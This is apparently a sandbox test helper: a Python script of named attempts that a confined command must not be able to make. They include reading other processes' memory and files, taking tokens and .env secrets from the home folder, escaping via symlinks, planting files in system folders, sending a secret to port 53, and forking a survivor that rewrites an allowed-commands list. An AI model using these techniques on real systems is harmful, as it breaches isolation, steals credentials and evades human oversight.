"""A hostile program: `hostile.py NAME` tries one thing that a command must not do, exits 0 if it works.

It is copied into a workspace and runs there without packages; variables tell it what there is outside.
Each attempt is a start of its own: what takes long to load is imported by those that need it.
"""

from __future__ import annotations

import ctypes
import os
import sys
import time

OUTSIDE, HOME = os.environ.get("OUTSIDE", ""), os.environ.get("REAL_HOME", "")
VICTIM = int(os.environ.get("VICTIM", "0"))
KEY = int(os.environ.get("KEY", "0"))
LIBC = ctypes.CDLL(None, use_errno=True)


def _must(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def _has_secret(path: str) -> None:
    with open(path, "rb") as file:
        if b"secret" not in file.read():
            raise OSError("nothing to see")


def _append(path: str) -> None:
    with open(path, "a", encoding="utf-8") as file:
        file.write("escaped\n")


def limit_a_process() -> None:
    """Take the processor from a process outside."""
    limits = (ctypes.c_ulong * 2)(1, 1)
    _must(LIBC.prlimit(VICTIM, 0, limits, None))


def limit_those_above() -> None:
    """Take the processor from clada and its supervisor."""
    limits = (ctypes.c_ulong * 2)(1, 1)
    parent = os.getppid()
    _must(LIBC.prlimit(VICTIM if parent <= 1 else parent, 0, limits, None))


def slow_a_process() -> None:
    """Give a process outside the least priority."""
    os.setpriority(os.PRIO_PROCESS, VICTIM, 19)


def pin_a_process() -> None:
    """Hold a process outside to one processor."""
    os.sched_setaffinity(VICTIM, {0})


def idle_a_process() -> None:
    """Have a process outside scheduled last."""
    os.sched_setscheduler(VICTIM, os.SCHED_IDLE, os.sched_param(0))


def stop_a_process() -> None:
    """Stop a process outside."""
    import signal

    os.kill(VICTIM, signal.SIGSTOP)


def read_memory_of_a_process() -> None:
    """Open the memory of a process outside."""
    os.close(os.open(f"/proc/{VICTIM}/mem", os.O_RDONLY))


def see_files_of_a_process() -> None:
    """See which files a process outside has open."""
    for name in os.listdir(f"/proc/{VICTIM}/fd"):
        os.readlink(f"/proc/{VICTIM}/fd/{name}")


def enter_the_folder_of_a_process() -> None:
    """Go where a process outside is at work."""
    os.chdir(f"/proc/{VICTIM}/cwd")
    os.listdir(".")


def go_through_the_root_of_a_process() -> None:
    """Read a secret through the root of a process outside."""
    _has_secret(f"/proc/{VICTIM}/root{OUTSIDE}/secret")


def offer_a_process_to_the_killer() -> None:
    """Have a process outside killed first when memory runs out."""
    with open(f"/proc/{VICTIM}/oom_score_adj", "w", encoding="ascii") as file:
        file.write("1000")


def read_shared_memory() -> None:
    """Read the System V memory of another program."""
    number = _must(LIBC.shmget(KEY, 1, 0))
    LIBC.shmat.restype = ctypes.c_void_p
    if LIBC.shmat(number, None, 0o10000) in (None, ctypes.c_void_p(-1).value):
        raise OSError("refused")


def take_a_message() -> None:
    """Take a message from the queue of another program."""
    number = _must(LIBC.msgget(KEY, 0))
    _must(LIBC.msgrcv(number, ctypes.create_string_buffer(64), 16, 0, 0o4000))


def change_a_semaphore() -> None:
    """Change a semaphore of another program."""
    _must(LIBC.semctl(_must(LIBC.semget(KEY, 1, 0)), 0, 16, 7))


def read_named_memory() -> None:
    """Read what another program has in shared memory by a name."""
    _has_secret(os.environ["MEMORY_FILE"])


def read_the_keyring() -> None:
    """Find a key of the person's in the kernel's keyring."""
    number = {"x86_64": 249, "aarch64": 218}[os.uname().machine]
    _must(LIBC.syscall(number, b"user", b"clada-attack", None, 0))


def set_an_attribute() -> None:
    """Change an extended attribute of a file outside."""
    os.setxattr(f"{OUTSIDE}/secret", "user.clada", b"escaped")


def read_outside() -> None:
    """Read a file beside the workspace."""
    _has_secret(f"{OUTSIDE}/secret")


def read_through_a_link() -> None:
    """Read it through a link in the workspace."""
    os.symlink(OUTSIDE, "way-out")
    _has_secret("way-out/secret")


def read_through_dots() -> None:
    """Read it by going up."""
    _has_secret("../outside/secret")


def read_through_a_hard_link() -> None:
    """Read it by a second name in the workspace."""
    os.link(f"{OUTSIDE}/secret", "second-name")
    _has_secret("second-name")


def list_outside() -> None:
    """List a folder outside."""
    os.listdir(OUTSIDE)


def list_home() -> None:
    """List the person's home."""
    if "kept" not in os.listdir(HOME):
        raise OSError("empty")


def read_settings_beside_programs() -> None:
    """Read a token that lies beside a folder of PATH, among settings."""
    _has_secret(f"{HOME}/.config/tool/token")


def read_a_cache_beside_programs() -> None:
    """Read a token that lies beside a folder of PATH, in a cache."""
    _has_secret(f"{HOME}/.cache/tool/token")


def read_a_project_beside_programs() -> None:
    """Read the secrets of a project that has a folder of PATH."""
    _has_secret(f"{HOME}/projects/production.env")


def read_other_homes() -> None:
    """List the homes of this machine."""
    names = [name for top in ("/home", "/root", "/Users") if os.path.isdir(top) for name in os.listdir(top)]
    if not [name for name in names if name.startswith(".bash") or name == ".profile"]:
        raise OSError("none")


def write_the_system() -> None:
    """Plant a program in the system's own folders."""
    _append(os.environ["PLANTED_PROGRAM"])


def write_etc() -> None:
    """Plant a setting in the system's own folders."""
    _append(os.environ["PLANTED_SETTING"])


def leave_in_var_tmp() -> None:
    """Leave a file where the next program finds it."""
    _append(os.environ["SHARED_FILE"])
    if not os.path.exists(OUTSIDE):
        raise OSError("in a place of its own")


def talk_to_a_late_socket() -> None:
    """Talk to a service that has come since the command was started."""
    import socket

    with open("ready", "w", encoding="ascii"):
        time.sleep(0.5)
    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect(f"{OUTSIDE}/late.sock")


def talk_to_a_relative_socket() -> None:
    """Talk to a service that has bound its socket by a relative name."""
    import socket

    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect(f"{OUTSIDE}/relative.sock")


def send_to_a_socket() -> None:
    """Send a datagram to a service that listens at a path."""
    import socket

    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as channel:
        channel.connect(f"{OUTSIDE}/datagrams.sock")


def talk_to_a_virtual_machine() -> None:
    """Open a channel to the host of this machine."""
    import socket

    socket.socket(40, socket.SOCK_STREAM).close()


def listen_to_the_kernel() -> None:
    """Hear of every device that comes and goes."""
    import socket

    socket.socket(16, socket.SOCK_RAW, 15).close()


def resolve_a_name() -> None:
    """Ask for the address of a host, with the question as the message."""
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.connect(("192.0.2.1", 53))
        channel.send(b"secret")


def outlive_the_supervisor() -> None:
    """Make the supervisor a tracer, stop, and have a survivor approve a command afterwards."""
    import signal

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 99)
            time.sleep(3)
            os.makedirs(".clada", exist_ok=True)
            _append(".clada/allowed-commands.json")
        os._exit(0)
    LIBC.ptrace(0, 0, None, None)
    os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(0.2)
    sys.exit(1)


if __name__ == "__main__":
    globals()[sys.argv[1]]()
